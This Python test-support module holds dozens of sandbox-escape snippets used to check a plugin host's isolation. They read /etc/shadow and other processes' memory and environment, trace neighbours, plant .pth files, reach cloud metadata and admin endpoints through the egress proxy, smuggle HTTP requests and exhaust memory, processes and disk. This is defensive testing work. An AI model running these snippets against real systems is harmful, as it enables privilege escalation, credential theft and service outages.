"""Attack code that runs inside a plugin, and packages for attacks on plugin
installation.

Each attack stores what it obtained in `found`. In a correct sandbox it obtains nothing.
"""

import base64
import hashlib
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

from tools.show.odd_plugins import odd_plugin

PRELUDE = """import ctypes, errno, glob, json, os, pathlib, signal, socket, subprocess, sys, threading, time, urllib.request
_c = ctypes.CDLL(None, use_errno=True)
_c.syscall.restype = ctypes.c_long
def call(number, *arguments):
    if _c.syscall(number, *[ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "worked"
def proxied(text, more=b""):
    address = urllib.request.getproxies().get("http") or "http://127.0.0.1:9"
    host = address.rpartition("@")[2].rpartition("/")[2] if "@" not in address else address.rpartition("@")[2]
    host, _, proxy_port = host.rpartition(":")
    token = address.partition("//")[2].rpartition("@")[0]
    import base64
    shown = "Proxy-Authorization: Basic " + base64.b64encode(token.encode()).decode() + "\\r\\n" if token else ""
    s = socket.create_connection((host, int(proxy_port)), 5)
    s.settimeout(5)
    s.sendall((text + shown + "\\r\\n").encode() + more)
    answer = b""
    while b"\\r\\n" not in answer and (piece := s.recv(65536)):
        answer += piece
    if answer[9:12] in (b"400", b"403", b"407", b"502", b""):  # the way out's own; any other answer is somebody's inside
        raise PermissionError(answer.split(b"\\r\\n")[0].decode("latin-1") or "closed")
    try:
        while b"canary" not in answer and (piece := s.recv(65536)):
            answer += piece
    except OSError:
        pass
    return answer.decode("latin-1")
found = None
"""
"""Code that runs before every attack.

The host also defines these variables: key, database, home, theirs, their_code, venv,
victim, server, port, origin, abstract, hidden, datagrams, udp, segment, shared,
debug_port, beside_file, beside_code and beside_pid.
"""

ISOLATION_ATTACKS: Mapping[str, str] = {
    # Files and shared memory.
    "read the master key": "found = open(key).read()",
    "read the database": "found = open(database, 'rb').read(100)",
    "list the home folder": "found = os.listdir(home)",
    "read another tenant's plugin's files": "found = open(theirs).read()",
    "read another plugin's code": "found = open(their_code).read()",
    "list other tenants' folders": "found = os.listdir(os.path.dirname(os.path.dirname(os.path.dirname(theirs))))",
    "read the users of the machine": "found = open('/etc/passwd').read()",
    "read the key through a link": "p = os.environ['HOME'] + '/link'\nos.path.islink(p) or os.symlink(key, p)\nfound = open(p).read()",
    "link the key into its folder": "os.link(key, os.environ['HOME'] + '/hard')\nfound = 'linked'",
    "read the key through the root of a process": "found = open('/proc/%d/root%s' % (server, key)).read()",
    "read the key through a descriptor of the server": "found = os.readlink('/proc/%d/fd/0' % server)",
    "write beside the interpreter's packages": "p = glob.glob(venv + '/lib/python3*/site-packages')[0] + '/evil.pth'\nopen(p, 'w').write('import os')\nfound = p",
    "write over the interpreter's library": "p = os.__file__\nfound = open(p, 'r+b')",
    "write over its own code": "found = open('main.py', 'r+')",
    "write over another plugin's code": "found = open(their_code, 'r+')",
    "replace its own code": "os.rename('main.py', 'other.py')\nos.rename('other.py', 'main.py')\nfound = 'moved'",
    "write among another tenant's files": "open(os.path.dirname(theirs) + '/evil', 'w')\nfound = 'made'",
    "make a program run as root": "p = os.environ['HOME'] + '/suid'\nopen(p, 'w').close()\nos.chmod(p, 0o4755)\ntry: os.chown(p, 0, 0)\nexcept OSError as error: raise PermissionError(str(error))\nassert os.stat(p).st_uid == 0 and os.getuid() != 0\nfound = 'made'",
    "share memory in files": "found = open(segment, 'rb').read()",
    "share memory by number": "found = call(30, shared, 0, 0)",
    # Other processes: reading, tracing, signalling and rescheduling them.
    "read the server's environment": "found = open('/proc/%d/environ' % server, 'rb').read()",
    "read a neighbour's environment": "found = open('/proc/%d/environ' % victim, 'rb').read()",
    "read the parent's environment": "found = open('/proc/%d/environ' % os.getppid(), 'rb').read()",
    "read the server's memory": "found = open('/proc/%d/mem' % server, 'rb')",
    "list the machine's processes": "found = [n for n in os.listdir('/proc') if n.isdigit()]",
    "trace a neighbour": "found = call(101, 16, victim, 0, 0)\n_c.ptrace(17, victim, 0, 0)",
    "read a neighbour's memory by a call": "import struct\nb = ctypes.create_string_buffer(8)\nv = struct.pack('QQ', ctypes.addressof(b), 8)\ntry: found = call(310, victim, v, 1, v, 1, 0)\nexcept OSError as error:\n    if error.errno != errno.EFAULT: raise\n    found = 'reached'",
    "take a descriptor of the server's": "fd = _c.syscall(434, server, 0)\nif fd < 0: raise OSError(ctypes.get_errno(), 'pidfd_open')\nfound = call(438, fd, 0, 0)",
    "signal the server": "os.kill(server, 0)\nfound = 'heard'",
    "kill a neighbour": "os.kill(victim, signal.SIGKILL)\nfound = 'killed'",
    "kill by a signal on a descriptor": "import fcntl\nr, w = os.pipe()\nfcntl.fcntl(r, 8, victim)\nfcntl.fcntl(r, 10, 9)\nfcntl.fcntl(r, 4, fcntl.fcntl(r, 3) | os.O_ASYNC)\nos.write(w, b'x')\nfound = 'sent'",
    "slow a neighbour down": "os.setpriority(os.PRIO_PROCESS, victim, 19)\nfound = 'slowed'",
    "slow its whole user down": "os.setpriority(os.PRIO_USER, 0, os.getpriority(os.PRIO_USER, 0))\nfound = 'slowed'",
    "bind the server to a processor": "os.sched_setaffinity(server, os.sched_getaffinity(server))\nfound = 'bound'",
    "let the server wait for all others": "os.sched_setscheduler(server, os.SCHED_OTHER, os.sched_param(0))\nfound = 'waits'",
    "lift a neighbour's limits": "import resource\nfound = resource.prlimit(victim, resource.RLIMIT_NOFILE, (64, 64))",
    "use a descriptor that was left open": "for n in range(3, 256):\n    try:\n        s = socket.socket(fileno=os.dup(n))\n        if s.family == socket.AF_UNIX and s.type == socket.SOCK_SEQPACKET: found = n\n        s.detach()\n    except OSError: pass\nif found is None: raise OSError('none')",
    # Privileges and namespaces.
    "become root": "os.setuid(0)\nassert os.getuid() == 0\nopen('/etc/shadow').read()\nfound = 'root'",
    "become another user": "os.setresuid(65533, 65533, 65533)\nfound = os.getuid()",
    "make a user namespace": "found = call(272, 0x10000000)",
    "make a namespace by a fork": "found = call(56, 0x10000000 | 17, 0, 0, 0, 0)\nfound == 'worked' and os.getpid()",
    "mount": "found = call(165, b'none', b'/mnt', b'tmpfs', 0, 0)",
    "change the root": "os.chroot('/')\nfound = 'changed'",
    "take back capabilities": "b = ctypes.create_string_buffer(b'\\x22\\x05\\x08\\x20\\0\\0\\0\\0', 8)\nd = ctypes.create_string_buffer(b'\\xff' * 24, 24)\nfound = call(126, b, d)",
    # System calls that have a large kernel attack surface.
    "set up io_uring": "b = ctypes.create_string_buffer(256)\nfound = call(425, 4, b)",
    "load a program into the kernel": "import struct\nfound = call(321, 0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1), 128), 128)",
    "use the kernel's key rings": "found = call(250, 0, -3, 1)",
    "watch the processor": "b = ctypes.create_string_buffer(b'\\1\\0\\0\\0\\x70\\0\\0\\0', 112)\nfound = call(298, b, 0, -1, -1, 0)",
    "handle its own page faults": "found = call(323, 1)",
    "open a file by its handle": "import struct\nb = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136)\nfound = call(303, -100, b'/', b, ctypes.create_string_buffer(8), 0)",
    "type into the terminal": "import fcntl\nfcntl.ioctl(0, 0x5412, b'x')\nfound = 'typed'",
    # Another plugin of the same tenant, in the same environment.
    "read the files of a plugin beside it": "found = open(beside_file).read()",
    "write over the files of a plugin beside it": "found = open(beside_file, 'r+')",
    "read the code of a plugin beside it": "found = open(beside_code).read()",
    "write over the code of a plugin beside it": "found = open(beside_code, 'r+')",
    "signal a plugin beside it": "os.kill(beside_pid, 0)\nfound = 'heard'",
    "trace a plugin beside it": "found = call(101, 16, beside_pid, 0, 0)\n_c.ptrace(17, beside_pid, 0, 0)",
    "read the environment of a plugin beside it": "found = open('/proc/%d/environ' % beside_pid, 'rb').read()",
    # Network connections, directly and through the egress proxy.
    "connect to a port of the machine": "found = socket.create_connection(('127.0.0.1', port), 2)",
    "call the server itself": "found = socket.create_connection(('127.0.0.1', int(origin.rpartition(':')[2])), 2)",
    "connect to the port for debugging": "found = socket.create_connection(('127.0.0.1', debug_port), 2)",
    "go out to the port for debugging": "found = proxied('CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n' % debug_port)",
    "connect over IPv6": "found = socket.create_connection(('::1', port6), 2)",
    "connect without asking": "s = socket.socket()\ns.sendto(b'x', 0x20000000, ('127.0.0.1', port))\nfound = s.getpeername()",
    "connect by another protocol": "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\ns.connect(('127.0.0.1', port))\nfound = 'connected'",
    "send a datagram": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', udp))\nfound = 'sent'",
    "ask a name server": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', udp))\ns.send(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\0\\0\\1\\0\\1')\nfound = 'asked'",
    "open a raw socket": "found = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "open a packet socket": "found = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
    "speak with the kernel's network": "found = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    "connect to an abstract socket": "s = socket.socket(socket.AF_UNIX)\ns.connect(abstract)\nfound = 'connected'",
    "connect to a socket in a folder": "s = socket.socket(socket.AF_UNIX)\ns.connect(hidden)\nfound = 'connected'",
    "send a datagram to a socket in a folder": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\na.sendto(b'x', datagrams)\nfound = 'sent'",
    "go out to the machine": "found = proxied('CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n' % port)",
    "go out to the server": "found = proxied('GET %s/admin/v1/settings HTTP/1.1\\r\\nHost: x\\r\\n' % origin)",
    "go out to the server past its files": "found = proxied('GET %s/files/../admin/v1/settings HTTP/1.1\\r\\nHost: x\\r\\n' % origin)",
    "go out to the server by a tunnel": "found = proxied('CONNECT %s HTTP/1.1\\r\\n' % origin.rpartition('/')[2])",
    "go out to the server behind a request": "a = proxied('GET %s/files/x HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n' % origin, b'GET /admin/v1/settings HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\nif a.count('HTTP/1.1 ') < 2: raise PermissionError('one answer')\nfound = a",
    "go out to the machine by another name": "found = proxied('CONNECT [::ffff:127.0.0.1]:%d HTTP/1.1\\r\\n' % port)",
    "go out to the machine by a number": "found = proxied('GET http://2130706433:%d/ HTTP/1.1\\r\\nHost: x\\r\\n' % port)",
    "go out to a cloud's metadata": "found = proxied('GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: x\\r\\n')",
    "go out to a private network": "found = proxied('CONNECT 10.0.0.1:443 HTTP/1.1\\r\\n')",
    # Data of other tenants that the same machine holds.
    "find what it kept of another tenant": "import builtins\nif not hasattr(builtins, 'canary'): raise OSError('nothing')\nfound = builtins.canary",
    "find another tenant's temporary files": "found = [p for f in ('/tmp', '/dev/shm', os.environ['TMPDIR'], '/var/tmp') if os.path.isdir(f) and os.access(f, os.R_OK) for p in os.listdir(f) if 'canary' in p][0:1] or 1/0",
}
"""Attack name to statements that finish without an error if the attack succeeds."""

RESOURCE_ATTACKS: Mapping[str, str] = {
    "fork without end": "while True:\n    try:\n        if os.fork() == 0: time.sleep(3600)\n    except OSError: time.sleep(0.1)",
    "start threads without end": "while True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    "take all memory": "kept = []\nwhile True:\n    kept.append(bytearray(16 << 20))\n    time.sleep(0.01)",
    "take all memory in one piece": "found = len(bytearray(64 << 30))",
    "fill the disk": "n = 0\nwhile True:\n    n += 1\n    with open(os.environ['HOME'] + '/fill%d' % n, 'wb') as f:\n        for _ in range(8): f.write(bytes(4 << 20)); time.sleep(0.01)",
    "fill the disk with one file": "with open(os.environ['HOME'] + '/large', 'wb') as f:\n    while True: f.write(bytes(8 << 20))",
    "open files without end": "kept = []\nwhile True: kept.append(open('/dev/null'))",
    "spin for ever": "while True: pass",
    "wait for ever": "time.sleep(3600)",
}
"""Attack name to statements that exhaust a resource and end only if the host stops
them."""

# Reports `refused` for errors that mean a refusal by the kernel or the host; other
# errors mean that the attack code itself failed.
_BODY = """code, around = asked["tool_parameters"]["code"], asked["tool_parameters"]["around"]
text(session, "began")
scope = dict(around)
try:
    exec(code, scope)
    answer = {"got": str(scope.get("found"))[:300]}
except BaseException as error:
    refused = isinstance(error, (OSError, MemoryError)) or "can't start new thread" in str(error)
    answer = {"refused": refused, "how": (type(error).__name__ + ": " + str(error))[:200]}
    answer["errno"] = getattr(error, "errno", None)
text(session, json.dumps(answer))
end(session)"""


def attacker(
    folder: Path,
    name: str = "attacker",
    requirements: str = "dify_plugin\n",
    permission: str = "{}",
) -> Path:
    """Write a plugin that runs the code of each request and reports the result; return
    its folder. `permission` is the YAML of what its manifest requests."""
    import tools.show.odd_plugins as odd

    odd.BEHAVIOURS["attacks"] = odd._program_for(_BODY)
    plugin_folder = odd_plugin(folder, "attacks", name=name, permission=permission)
    (plugin_folder / "requirements.txt").write_text(requirements, "utf-8")
    return plugin_folder


def wheel(folder: Path, name: str, version: str, files: Mapping[str, str]) -> Path:
    """Write a wheel with these files into `folder` and return its path."""
    info = f"{name}-{version}.dist-info"
    everything = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    # RECORD lists a digest and a size for every file except itself, as the wheel format
    # requires.
    lines = [
        f"{path},sha256={_digest(text)},{len(text.encode())}"
        for path, text in everything.items()
    ]
    everything[f"{info}/RECORD"] = "\n".join([*lines, f"{info}/RECORD,,"]) + "\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in everything.items():
            archive.writestr(path, text)
    folder.mkdir(parents=True, exist_ok=True)
    wheel_path = folder / f"{name}-{version}-py3-none-any.whl"
    wheel_path.write_bytes(buffer.getvalue())
    return wheel_path


def _digest(text: str) -> str:
    """Return the unpadded URL-safe base64 sha256 that RECORD uses."""
    return (
        base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest())
        .rstrip(b"=")
        .decode()
    )


def wheelhouse(folder: Path, **extra_files: str) -> Path:
    """Write an empty stand-in for the plugin SDK, so that an installation needs no
    network; return `folder`."""
    wheel(
        folder, "dify_plugin", "9.9.9", {"dify_plugin/__init__.py": "", **extra_files}
    )
    return folder
